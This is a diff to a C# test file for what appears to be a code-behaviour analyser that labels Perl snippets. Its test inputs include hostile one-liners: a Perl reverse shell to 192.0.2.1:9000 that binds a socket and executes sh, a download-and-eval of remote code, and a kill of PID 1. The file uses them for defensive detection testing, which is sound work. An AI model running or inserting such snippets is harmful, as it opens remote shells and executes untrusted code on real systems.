@@ -15,7 +15,7 @@ public class PerlAndRubyTests
     [InlineData("system('tar', 'xf', 'a.tar');", "run tar xf a.tar")]
     [InlineData("kill 9, 1;", "Kill 1 #init")]
     [InlineData("use LWP::Simple; eval get('http://example.org/a.pl');", "ExecuteDownloaded download of http://example.org/a.pl ? #eval")]
-    [InlineData("use IO::Socket; my $s = IO::Socket::INET->new(PeerAddr => '192.0.2.1', PeerPort => 9000); open(STDIN, '<&', $s); exec 'sh';", "Connect 192.0.2.1:9000")]
+    [InlineData("use IO::Socket; my $s = IO::Socket::INET->new(PeerAddr => '192.0.2.1', PeerPort => 9000); open(STDIN, '<&', $s); exec 'sh';", "Connect 192.0.2.1:9000 #code-socket")]
     public void Perl(string code, string expected) => CodeProbe.Does(CodeLanguage.Perl, code, expected);
 
     [Theory]
